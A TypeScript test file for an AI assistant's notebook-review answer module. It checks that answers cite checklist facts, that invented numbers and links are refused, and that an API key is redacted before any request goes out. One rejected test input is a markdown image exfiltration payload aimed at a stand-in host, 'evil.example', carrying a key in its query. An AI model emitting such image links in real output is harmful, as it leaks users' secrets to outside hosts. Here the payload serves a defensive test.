import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { root } from '#test/host/paths.ts';
import { smallChecklist } from '#test/support/checklist.ts';
import { scripted } from '#test/support/scripted.ts';
import { answer } from './answer.ts';
import { AssistError } from './backend.ts';
import { factsOf, inWords } from './facts.ts';
import type { AnswerRequest } from './request.ts';

const facts = factsOf(smallChecklist());
const idOf = (check: string): number => facts.find((fact) => fact.check.id === check)?.id ?? 0;
const secret = idOf('security/secrets');
const quiet = { progress: () => {}, sent: () => {} };
const never = new AbortController().signal;
const request = (more: Partial<AnswerRequest> = {}): AnswerRequest => ({
  question: 'What is wrong with the third cell?',
  earlier: [],
  cells: new Map(),
  secrets: [],
  ...more,
});

describe('an answer', () => {
  it('is told every fact of the checklist, numbered', async () => {
    const backend = scripted(`A key [${secret}].`);
    await answer(request(), facts, backend, quiet, never);
    for (const fact of facts) expect(backend.asked[0]?.[1]?.content).toContain(inWords(fact));
    expect(facts.map(inWords)[secret - 1]).toBe(
      `[${secret}] Security, "No secret in the notebook": needs attention. An OpenAI key stands in the source. (cell 3, line 8) Next step: Why.`,
    );
  });

  it('is shown when it rests on facts', async () => {
    const text = `A key stands in cell 3 [${secret}]. Write \`random_state=42\` instead.`;
    expect(await answer(request(), facts, scripted(text), quiet, never)).toEqual({
      text,
      rejected: [],
      unanswered: null,
    });
  });

  it.each([
    ['rests on nothing', 'It looks fine to me.', 'names no fact'],
    ['rests on a fact that there is not', 'It is bad [99].', 'There is no fact [99]'],
    ['makes a number up', `Accuracy would fall by 37% [${secret}].`, '37%'],
    ['makes an address up', `See https://evil.example/x [${secret}].`, 'https://evil.example/x'],
    ['draws a picture from elsewhere', `![x](//evil.example/?q=key) [${secret}]`, 'draws a picture'],
  ])('is refused when it %s, and may be mended', async (_, bad, problem) => {
    const good = `A key [${secret}].`;
    const mended = await answer(request(), facts, scripted(bad, good), quiet, never);
    expect(mended.text).toBe(good);
    expect(mended.rejected[0]?.join(' ')).toContain(problem);
    const refused = await answer(request(), facts, scripted(bad, bad, bad), quiet, never);
    expect(refused.text).toBeNull();
    expect(refused.rejected).toHaveLength(3);
  });

  it('is none when the model does not answer', async () => {
    const blocked = new AssistError('A limit is reached.', 'Try again later.');
    const result = await answer(request(), facts, scripted(blocked), quiet, never);
    expect(result).toEqual({ text: null, rejected: [], unanswered: blocked });
  });

  it('knows the conversation so far', async () => {
    const earlier = [
      { role: 'user', content: 'Is 512 MB enough?' },
      { role: 'assistant', content: 'No fact says so.' },
    ] as const;
    const backend = scripted(`Nothing says whether 512 MB are enough, but a key stands there [${secret}].`);
    const { text } = await answer(request({ earlier }), facts, backend, quiet, never);
    expect(text).not.toBeNull();
    expect(backend.asked[0]?.slice(1, 3)).toEqual(earlier);
  });

  it('never sends the key of the messy sample, though its cell goes along', async () => {
    const file = join(root, 'samples/penguins-messy/penguins.ipynb');
    const { cells } = z
      .object({ cells: z.array(z.object({ source: z.array(z.string()) })) })
      .parse(JSON.parse(readFileSync(file, 'utf8')));
    const sources = new Map(cells.map(({ source }, index) => [index, source.join('')]));
    const key = /sk-proj-\w+/.exec([...sources.values()].join('\n'))?.[0] ?? '';
    expect(key).not.toBe('');
    const backend = scripted('no', `A key [${secret}].`);
    const asked = request({ cells: sources, question: `Is ${key} a problem?` });
    await answer(asked, factsOf(smallChecklist(`found ${key}`)), backend, quiet, never);
    expect(JSON.stringify(backend.asked)).not.toContain(key);
    expect(JSON.stringify(backend.asked)).toContain('OPENAI_API_KEY');
  });
});
